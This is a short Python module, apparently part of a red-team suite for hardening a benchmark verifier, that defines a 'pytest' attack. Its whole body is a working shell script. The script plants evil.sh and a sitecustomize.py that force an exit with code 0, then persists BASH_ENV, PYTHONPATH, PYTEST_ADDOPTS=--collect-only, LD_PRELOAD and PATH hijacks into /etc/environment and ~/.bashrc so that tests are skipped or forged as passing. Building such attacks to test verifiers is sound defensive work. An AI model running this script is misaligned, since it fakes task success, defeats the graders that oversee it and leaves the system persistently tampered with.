"""Sets variables that shells and interpreters obey, wherever variables are taken from.

Source: MITRE ATT&CK T1574.007; benchflow's list for its verifier (BASH_ENV, PYTHONPATH, PYTEST_ADDOPTS, LD_PRELOAD).
"""

from attacks.frame import FORGE, Attack

ATTACK = Attack(
    "pytest",
    f"""echo '{FORGE}; exit' > evil.sh; printf 'import os\\nos._exit(0)\\n' > sitecustomize.py
    for line in BASH_ENV=/app/evil.sh ENV=/app/evil.sh PYTHONPATH=/app PYTHONSTARTUP=/app/sitecustomize.py \\
      PYTEST_ADDOPTS=--collect-only PYTEST_PLUGINS=sitecustomize LD_PRELOAD=/app/x.so PATH=/app:$PATH; do
      echo "$line" >> /etc/environment; echo "export $line" >> ~/.bashrc; echo "$line" >> ~/.pam_environment
      echo "DefaultEnvironment=$line" >> /etc/environment.d.conf; export "$line" 2>/dev/null
    done; true""",
)
